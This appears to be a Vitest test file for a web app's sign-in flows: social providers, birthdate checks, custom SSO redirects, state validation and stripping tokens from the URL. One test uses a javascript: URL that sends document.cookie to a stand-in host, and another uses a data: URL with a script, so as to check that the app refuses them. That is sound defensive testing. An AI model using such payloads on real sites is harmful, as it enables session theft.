import { describe, expect, it, vi } from 'vitest';
import { ApiError } from '../../../src/application/errors/ApiError';
import { AuthError } from '../../../src/application/usecases/auth/AuthError';
import { STORAGE_KEYS } from '../../../src/application/ports/KeyValueStore';
import type { SsoProvider } from '../../../src/domain/auth/Tokens';
import { SsoCallbackPresenter } from '../../../src/presentation/auth/presenters/SsoCallbackPresenter';
import { authApp, flush, type AuthApp, type AuthAppOptions } from './authModalHarness';

const GOOGLE = { google: true, facebook: true, providers: { google: { clientId: 'google-client' }, facebook: { appId: 'facebook-app' } } };

function withSocial(options: AuthAppOptions = {}) {
  const app = authApp({ ...options, auth: { ...GOOGLE, ...options.auth } });
  return { app, modal: app.open() };
}

describe('social sign-in from the cta', () => {
  it('in sign-in mode the provider window opens at once and the member is signed in', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    modal.socialClicked('facebook');
    expect(modal.socialBusy).toBe('facebook');
    await vi.waitFor(() => expect(modal.flow.open).toBe(false));
    expect(app.identity.callsOf('authorize')).toEqual([['facebook']]);
    expect(app.auth.callsOf('withProvider')).toEqual([['facebook', 'facebook-access-token', undefined]]);
    expect(app.published).toEqual(['authenticated', 'completeProfileRequested']);
    expect(modal.socialBusy).toBeNull();
  });

  it('sign-up with a minimum age asks the birthdate first, then starts the remembered provider', async () => {
    const { app, modal } = withSocial({ network: { minAge: 18 }, member: { birthday: null } });
    modal.socialClicked('google');
    expect(modal.flow).toMatchObject({ step: 'birthdate', pendingSocial: 'google' });
    expect(app.identity.callsOf('authorize')).toEqual([]);
    modal.birthdate.valueTyped('2001-09-09');
    await modal.birthdate.continueClicked();
    // Back on the buttons under the provider's window.
    expect(modal.flow.step).toBe('cta');
    await vi.waitFor(() => expect(modal.flow.open).toBe(false));
    expect(app.identity.callsOf('authorize')).toEqual([['google']]);
    expect(app.memberships.callsOf('update')).toEqual([['mem-1', { birthday: '2001-09-09' }]]);
    expect(app.session.membership?.birthday).toBe('2001-09-09');
    expect(app.completeProfileRequests()).toBe(1);
  });

  it('a birthday too young stops the social sign-up on the birthdate step', async () => {
    const { app, modal } = withSocial({ network: { minAge: 18 } });
    modal.socialClicked('google');
    modal.birthdate.valueTyped('2010-01-01');
    await modal.birthdate.continueClicked();
    expect(modal.birthdate.error).toBe('Only users old enough are allowed (at least 18 years old).');
    expect(modal.flow.step).toBe('birthdate');
    expect(app.identity.callsOf('authorize')).toEqual([]);
  });

  it('switching to sign-in on that birthdate step forgets the provider', () => {
    const { app, modal } = withSocial({ network: { minAge: 18 } });
    modal.socialClicked('google');
    modal.modeSwitched('sign-in');
    expect(modal.flow).toMatchObject({ step: 'cta', mode: 'sign-in', pendingSocial: null });
    expect(app.identity.callsOf('authorize')).toEqual([]);
  });

  it('a closed provider window stops the busy state with no message', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.identity.queueAnswer(null);
    modal.socialClicked('google');
    expect(modal.socialBusy).toBe('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.toasts).toEqual([]);
    expect(app.auth.callsOf('withProvider')).toEqual([]);
    expect(modal.flow).toMatchObject({ open: true, step: 'cta' });
    expect(app.published).toEqual([]);
  });

  it('a server error after the provider is an error toast with its message', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.auth.queueProvider(new ApiError(403, 'ProviderRejected', 'This Google account cannot join.'));
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.messages('error')).toEqual(['This Google account cannot join.']);
    expect(modal.flow.open).toBe(true);
  });

  it('sign-in of an account without a birthday on a network with a minimum age asks it, with no back', async () => {
    const { app, modal } = withSocial({ authedBefore: true, network: { minAge: 18 }, member: { birthday: null } });
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.flow.step).toBe('birthdate'));
    expect(modal.flow.hasUserSession).toBe(true);
    expect(modal.canGoBack).toBe(false);
    expect(app.completeProfileRequests()).toBe(0);
    modal.backClicked();
    expect(modal.flow.step).toBe('birthdate');
    modal.birthdate.valueTyped('1980-01-01');
    await modal.birthdate.continueClicked();
    expect(app.memberships.callsOf('update')).toEqual([['mem-1', { birthday: '1980-01-01' }]]);
    expect(modal.flow.open).toBe(false);
    expect(app.completeProfileRequests()).toBe(1);
  });

  it('a provider whose address is not safe is an error toast saying so, and signs nobody in', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.identity.queueAnswer(AuthError.unsafeUrl());
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
    expect(app.auth.callsOf('withProvider')).toEqual([]);
    expect(modal.flow).toMatchObject({ open: true, step: 'cta' });
  });

  it('a second click while a provider is busy is ignored, and dispose stops it silently', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.auth.queueProvider({ kind: 'exchange', exchangeToken: 'ex-1' });
    app.auth.queueExchange({ kind: 'pending' });
    modal.socialClicked('google');
    await vi.waitFor(() => expect(app.clock.pendingDelays()).toEqual([1000]));
    modal.socialClicked('facebook');
    expect(app.identity.callsOf('authorize')).toEqual([['google']]);
    modal.dispose();
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    await app.clock.advanceAsync(10_000);
    expect(app.auth.callsOf('exchange')).toHaveLength(1);
    expect(app.notifier.toasts).toEqual([]);
    expect(app.session.isSignedIn).toBe(false);
  });
});

const CUSTOM_SSO = { authType: 'custom_sso' as const, providers: { customSso: { authorizeUrl: 'https://sso.example/authorize', clientId: 'client-1', label: 'Staff login' } } };

function departure(app: AuthApp): URL {
  const [url] = app.external.departures;
  if (url === undefined) throw new Error('the app did not leave');
  return new URL(url);
}

describe('custom SSO and SSO buttons', () => {
  it("'continue to log in' leaves for the authorize URL with a state kept in the session store", () => {
    const app = authApp({ auth: CUSTOM_SSO });
    const modal = app.open({ returnPath: '/contents/7' });
    expect(modal.flow.step).toBe('custom_sso');
    expect(modal.canSwitchMode).toBe(false);
    expect(modal.customSso?.label).toBe('Staff login');
    modal.continueClicked();
    expect(app.external.departures).toHaveLength(1);
    const url = departure(app);
    expect(`${url.origin}${url.pathname}`).toBe('https://sso.example/authorize');
    expect(Object.fromEntries(url.searchParams)).toEqual({
      client_id: 'client-1',
      redirect_uri: 'https://app.example/sample/auth/custom-sso',
      response_type: 'token',
      state: 'random-1',
    });
    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toEqual({ state: 'random-1', provider: 'custom-sso', returnPath: '/contents/7' });
  });

  it('an SSO button on the cta leaves for its provider with its callback path', () => {
    const app = authApp({ auth: { providers: { yTech: { authorizeUrl: 'https://ytech.example/oauth?tenant=9', clientId: 'yt' } } } });
    const modal = app.open();
    expect(modal.ssoButtons.map(({ provider, label }) => ({ provider, label }))).toEqual([{ provider: 'y-tech', label: 'Y-Tech' }]);
    const [button] = modal.ssoButtons;
    if (!button) throw new Error('no SSO button');
    modal.ssoClicked(button);
    const url = departure(app);
    expect(url.searchParams.get('tenant')).toBe('9');
    expect(url.searchParams.get('redirect_uri')).toBe('https://app.example/sample/auth/y-tech/callback');
    expect(url.searchParams.get('state')).toBe('random-1');
  });
});

describe('an SSO authorize URL that is not safe', () => {
  const UNSAFE = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';

  it("'continue to log in' opens nothing, keeps no state and says why in an error toast", () => {
    const app = authApp({ auth: { ...CUSTOM_SSO, providers: { customSso: { authorizeUrl: UNSAFE, clientId: 'client-1' } } } });
    const modal = app.open({ returnPath: '/contents/7' });
    modal.continueClicked();
    expect(app.external.departures).toEqual([]);
    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toBeNull();
    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
    expect(modal.flow).toMatchObject({ open: true, step: 'custom_sso' });
  });

  it('an SSO button does the same, in Italian for an Italian visitor', async () => {
    const app = authApp({ auth: { providers: { cvespa: { authorizeUrl: 'data:text/html,<script>alert(1)</script>', clientId: 'cv' } } } });
    await app.i18n.localeChosen('it');
    const modal = app.open();
    const [button] = modal.ssoButtons;
    if (!button) throw new Error('no SSO button');
    modal.ssoClicked(button);
    expect(app.external.departures).toEqual([]);
    expect(app.notifier.messages('error')).toEqual(['L’indirizzo di questo servizio di accesso non è sicuro, quindi l’app non lo aprirà.']);
  });
});

describe('SsoCallbackPresenter', () => {
  async function startedThenBack(callback: { hash?: string; search?: string }, options: { provider?: SsoProvider } = {}) {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    const presenter = new SsoCallbackPresenter(app.deps, options.provider ?? 'custom-sso', app.navigator);
    const result = await presenter.callbackReceived({ hash: callback.hash ?? '', search: callback.search ?? '' }, new AbortController().signal);
    return { app, presenter, result };
  }

  it.each([
    { where: 'fragment', callback: { hash: '#access_token=tok-1&state=random-1' } },
    { where: 'query', callback: { search: '?code=tok-1&state=random-1' } },
  ])('the matching state in the $where signs in and asks for complete-profile', async ({ callback }) => {
    const { app, presenter, result } = await startedThenBack(callback);
    expect(result).toBe(true);
    expect(presenter.status).toBe('working');
    expect(app.auth.callsOf('withProvider')).toEqual([['custom-sso', 'tok-1', 'https://app.example/sample/auth/custom-sso']]);
    expect(app.session.isSignedIn).toBe(true);
    expect(app.published).toEqual(['authenticated', 'completeProfileRequested']);
    // The state is good once.
    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toBeNull();
  });

  it.each([
    { name: 'a forged state', hash: '#access_token=tok-1&state=forged', provider: 'custom-sso' as const },
    { name: 'no state', hash: '#access_token=tok-1', provider: 'custom-sso' as const },
    { name: 'another provider', hash: '#access_token=tok-1&state=random-1', provider: 'y-tech' as const },
  ])('$name fails with the not-valid-any-more text and no gateway call', async ({ hash, provider }) => {
    const { app, presenter, result } = await startedThenBack({ hash }, { provider });
    expect(result).toBe(false);
    expect(presenter.status).toBe('failed');
    expect(presenter.failureMessage).toBe('This sign-in link is not valid any more. Please start again.');
    expect(app.auth.callsOf('withProvider')).toEqual([]);
    expect(app.session.isSignedIn).toBe(false);
    expect(app.published).toEqual([]);
  });

  it('a callback that was never started here fails the same way', async () => {
    const app = authApp({ auth: CUSTOM_SSO });
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
    expect(await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal)).toBe(false);
    expect(presenter.failureMessage).toBe('This sign-in link is not valid any more. Please start again.');
    expect(app.auth.callsOf('withProvider')).toEqual([]);
  });

  it('a callback without a token fails with the generic SSO text', async () => {
    const { app, presenter, result } = await startedThenBack({ hash: '#state=random-1&error=access_denied' });
    expect(result).toBe(false);
    expect(presenter.failureMessage).toBe('The sign-in could not be completed. Please try again.');
    expect(app.auth.callsOf('withProvider')).toEqual([]);
  });

  it('a server error shows its message', async () => {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    app.auth.queueProvider(new ApiError(401, 'InvalidToken', 'The SSO token has expired.'));
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
    await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal);
    expect(presenter.failureMessage).toBe('The SSO token has expired.');
  });

  it('leaving the page while the exchange is polled stops it without a failure', async () => {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    app.auth.queueProvider({ kind: 'exchange', exchangeToken: 'ex-9' });
    app.auth.queueExchange({ kind: 'pending' });
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
    const abort = new AbortController();
    const result = presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, abort.signal);
    await vi.waitFor(() => expect(app.clock.pendingDelays()).toEqual([1000]));
    abort.abort();
    expect(await result).toBe(false);
    expect(presenter.status).toBe('working');
    expect(presenter.failureMessage).toBe('');
    await flush(app);
    expect(app.session.isSignedIn).toBe(false);
  });

  it('a paid network sends the member to the return path kept with the state', async () => {
    const app = authApp({ network: { accessType: 'purchasable', purchasable: true }, auth: CUSTOM_SSO });
    app.open({ returnPath: '/contents/7' }).continueClicked();
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
    expect(await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal)).toBe(true);
    expect(app.navigator.navigations).toEqual([
      { path: '/auth/custom-sso', replace: true },
      { path: '/contents/7', replace: true },
    ]);
  });
});

describe('SsoCallbackPresenter: the token leaves the address bar and the history first', () => {
  /** A navigator that notes, with each move, how many token exchanges the back end had been asked for. */
  function recordingNavigator(app: AuthApp) {
    const moves: { path: string; replace: boolean; exchangesBefore: number }[] = [];
    const navigator = {
      goTo: (path: string, options?: { replace?: boolean }) => {
        moves.push({ path, replace: options?.replace ?? false, exchangesBefore: app.auth.callsOf('withProvider').length });
        app.navigator.goTo(path, options);
      },
    };
    return { navigator, moves };
  }

  it.each([
    { outcome: 'a successful sign-in', hash: '#access_token=tok-1&state=random-1&token_type=bearer', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: true },
    { outcome: 'a forged state', hash: '#access_token=tok-1&state=forged', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: false },
    { outcome: 'a provider error without a token', hash: '#error=access_denied&state=random-1', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: false },
    { outcome: 'another provider', hash: '#access_token=tok-1&state=random-1', provider: 'y-tech' as const, path: '/auth/y-tech/callback', signedIn: false },
  ])('after $outcome, the callback entry is replaced by its bare path before any exchange', async ({ hash, provider, path, signedIn }) => {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    const { navigator, moves } = recordingNavigator(app);
    const presenter = new SsoCallbackPresenter(app.deps, provider, navigator);
    const result = await presenter.callbackReceived({ hash, search: '' }, new AbortController().signal);
    expect(result).toBe(signedIn);
    expect(moves[0]).toEqual({ path, replace: true, exchangesBefore: 0 });
    // Nothing else carries the token back into the history.
    expect(moves.every((move) => move.replace && !move.path.includes('tok-1') && !move.path.includes('state='))).toBe(true);
  });

  it('the token in the query (code=…) goes too, and the token still reaches the exchange', async () => {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    const { navigator, moves } = recordingNavigator(app);
    // A live location object: what the page hands over is read before the address changes.
    const location = { hash: '', search: '?code=tok-1&state=random-1' };
    const cleaning = { goTo: (path: string, options?: { replace?: boolean }) => {
      location.search = '';
      navigator.goTo(path, options);
    } };
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', cleaning);
    expect(await presenter.callbackReceived(location, new AbortController().signal)).toBe(true);
    expect(moves[0]).toEqual({ path: '/auth/custom-sso', replace: true, exchangesBefore: 0 });
    expect(app.auth.callsOf('withProvider')).toEqual([['custom-sso', 'tok-1', 'https://app.example/sample/auth/custom-sso']]);
  });

  it('a second run (a remount) does not move again', async () => {
    const app = authApp({ auth: CUSTOM_SSO });
    app.open().continueClicked();
    const { navigator, moves } = recordingNavigator(app);
    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', navigator);
    const callback = { hash: '#access_token=tok-1&state=random-1', search: '' };
    await Promise.all([presenter.callbackReceived(callback), presenter.callbackReceived(callback)]);
    expect(moves.filter((move) => move.path === '/auth/custom-sso')).toHaveLength(1);
  });
});
